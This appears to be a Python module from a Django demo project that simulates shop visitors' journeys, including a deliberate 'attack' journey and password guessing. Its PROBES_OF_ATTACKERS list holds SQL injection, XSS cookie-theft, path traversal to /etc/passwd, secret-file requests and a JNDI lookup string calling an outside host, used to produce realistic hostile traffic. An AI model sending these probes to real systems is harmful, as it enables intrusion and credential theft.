"""What visitors do: each journey is a function of a visitor, and the table at the end says how often it comes."""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Callable
from urllib.parse import quote, urlencode

from django.utils.text import slugify

from testproject.demo.visitor import Visitor
from testproject.shop.catalogue import BUYERS, CUSTOMERS, MAKERS, PROMOTIONS
from testproject.shop.models import Craft
from testproject.shop.views.webhooks import sign

PRODUCTS = tuple(slugify(name) for maker in MAKERS for name in maker.products)
ARTISANS = tuple(slugify(maker.name) for maker in MAKERS)
RUNNING = tuple(slugify(name) for name, _, _, first, last in PROMOTIONS if first <= 0 < last)
ADMIN = "admin"
WITHOUT_REDUCTION = "meet-the-makers"
WORDS = ("bowl", "ring", "blue", "lamp", "mug", "Murano", "silver", "gift for a gardener")
MISSING = (
    "/products/broken-cup/",
    "/sitemap.xml",
    "/robots.txt",
    "/blog/",
    "/artisans/nobody/",
    "/apple-touch-icon.png",
)
PROBES_OF_ATTACKERS = (
    "/?q=" + quote("' or 1=1 --"),
    "/products/?q=" + quote("<script>alert(document.cookie)</script>"),
    "/products/?q=" + quote("1 UNION SELECT username,password FROM auth_user"),
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/care-guide/..%2f..%2f..%2fetc%2fpasswd",
    "/api/products/?craft=" + quote("${jndi:ldap://203.0.113.66/a}"),
)


def browse(visitor: Visitor) -> None:
    """Come in, look at a shelf, a product and the one who made it."""
    dice = visitor.dice
    visitor.get("/")
    visitor.get(f"/products/?craft={dice.choice(Craft.values)}&page={dice.choice((1, 1, 2))}")
    for slug in dice.sample(PRODUCTS, dice.randrange(1, 4)):
        visitor.get(f"/products/{slug}/")
    if dice.random() < 0.4:
        visitor.get(f"/artisans/{dice.choice(ARTISANS)}/")
    if dice.random() < 0.3:
        visitor.get("/artisans/")


def search(visitor: Visitor) -> None:
    """Look for something by name."""
    visitor.get("/products/?" + urlencode({"q": visitor.dice.choice(WORDS)}))
    visitor.get(f"/products/{visitor.dice.choice(PRODUCTS)}/")


def bargains(visitor: Visitor) -> None:
    """Look for reductions, and ask how much to spend; the one of 0 % fails."""
    visitor.get("/promotions/")
    slug = visitor.dice.choice(
        (*RUNNING, WITHOUT_REDUCTION, WITHOUT_REDUCTION)
    )  # it promises most, so people look at it most
    visitor.get(f"/promotions/{slug}/")
    visitor.get(f"/api/promotions/{slug}/savings/?goal={visitor.dice.choice((5, 20, 50))}")


def buy(visitor: Visitor) -> None:
    """Put things into the cart and order them."""
    dice = visitor.dice
    for slug in dice.sample(PRODUCTS, dice.randrange(1, 4)):
        visitor.get(f"/products/{slug}/")
        visitor.post("/cart/add/", product=slug)
    if dice.random() < 0.3:
        return
    visitor.get("/checkout/")
    if dice.random() < 0.2:
        visitor.post("/checkout/", name="", email="no address")
    buyer = dice.choice(BUYERS)
    order = visitor.post("/checkout/", name=buyer, email=f"{slugify(buyer)}@customers.example")
    if order.status == 200 and dice.random() < 0.4:
        visitor.get("/care-guide/")


def stock_up(visitor: Visitor) -> None:
    """Order for a whole table: more pieces of one thing than the parcel's label can list."""
    product = visitor.dice.choice(PRODUCTS)
    visitor.get(f"/products/{product}/")
    for _ in range(9):
        visitor.post("/cart/add/", product=product)
    buyer = visitor.dice.choice(BUYERS)
    visitor.post("/checkout/", name=buyer, email=f"{slugify(buyer)}@customers.example")


def log_in(visitor: Visitor, username: str, password: str, wrong_first: int = 0) -> None:
    """Log in; `wrong_first` times with a password that is not the right one."""
    visitor.get("/login/")
    for number in range(wrong_first):
        visitor.post("/login/", username=username, password=f"guess-{number}")
    visitor.post("/login/", username=username, password=password)


def customer(visitor: Visitor, password: str) -> None:
    """Log in, at times at the second attempt, look at the orders and buy."""
    log_in(visitor, visitor.dice.choice(CUSTOMERS), password, wrong_first=int(visitor.dice.random() < 0.25))
    visitor.get("/account/")
    browse(visitor)
    buy(visitor)
    visitor.post("/logout/")


def staff(visitor: Visitor, password: str) -> None:
    """Log in as the person in the office, and wait for the sales report."""
    log_in(visitor, ADMIN, password)
    visitor.get("/reports/sales/")
    visitor.get("/admin/")
    visitor.get("/admin/shop/order/?state__exact=paid")
    visitor.get("/reports/sales/")


def program(visitor: Visitor) -> None:
    """Read the API and order through it; one order in eight is not well-formed."""
    dice = visitor.dice
    visitor.get(f"/api/products/?craft={dice.choice(Craft.values)}")
    for slug in dice.sample(PRODUCTS, 2):
        visitor.get(f"/api/products/{slug}/")
        visitor.get(f"/api/products/{slug}/stock/")
    lines = [{"product": slug, "quantity": dice.randrange(1, 4)} for slug in dice.sample(PRODUCTS, 2)]
    order = {"name": "Market Hall", "email": "hall@customers.example", "lines": lines}
    if dice.random() < 0.12:
        order = dice.choice((b"{", {"name": "Market Hall"}, {**order, "lines": [{"product": "x", "quantity": -1}]}))
    reply = visitor.post_json("/api/orders/", order)
    if reply.status == 201:
        reference = reply.json()["reference"]
        pay(visitor, reference)
        visitor.get(f"/api/orders/{reference}/")


def pay(visitor: Visitor, reference: str) -> None:
    """Be the payment provider: mostly in order, sometimes without the order, sometimes with a forged signature."""
    luck = visitor.dice.random()
    content = {"type": "payment.succeeded", "data": {"order": reference} if luck > 0.1 else {"invoice": reference}}
    body, timestamp = json.dumps(content).encode(), str(int(time.time()))
    message_id = f"msg_{uuid.UUID(int=visitor.dice.getrandbits(128))}"
    signature = sign(message_id, timestamp, body) if luck < 0.92 else "v1,Zm9yZ2Vk"
    headers = {"webhook-id": message_id, "webhook-timestamp": timestamp, "webhook-signature": signature}
    visitor.post_json("/webhooks/payment/", body, **headers)


def export(visitor: Visitor) -> None:
    """Fetch the price list; two times in three hang up in the middle."""
    if visitor.dice.random() < 0.66:
        visitor.hang_up("/api/products/export.csv")
    else:
        visitor.get("/api/products/export.csv")


def wander(visitor: Visitor) -> None:
    """Ask for what is not there."""
    visitor.get(visitor.dice.choice(MISSING))
    visitor.get("/")


def attack(visitor: Visitor) -> None:
    """Look for holes, with a tool that says its name half of the time."""
    visitor.agent = visitor.dice.choice(("sqlmap/1.8.4", "Nikto/2.5.0", "Mozilla/5.0", "python-requests/2.32"))
    for path in visitor.dice.sample(PROBES_OF_ATTACKERS, 5):
        visitor.get(path)
    visitor.get("/", Host="intranet.example")


def guess(visitor: Visitor, password: str) -> None:
    """Guess a password many times, and then know it."""
    log_in(visitor, CUSTOMERS[0], password, wrong_first=12)
    visitor.get("/account/")


ANONYMOUS: dict[Callable[[Visitor], None], int] = {
    browse: 40,
    search: 14,
    bargains: 14,
    buy: 12,
    stock_up: 2,
    program: 12,
    export: 3,
    wander: 4,
    attack: 2,
}
WITH_PASSWORD: dict[Callable[[Visitor, str], None], int] = {customer: 6, staff: 3, guess: 1}
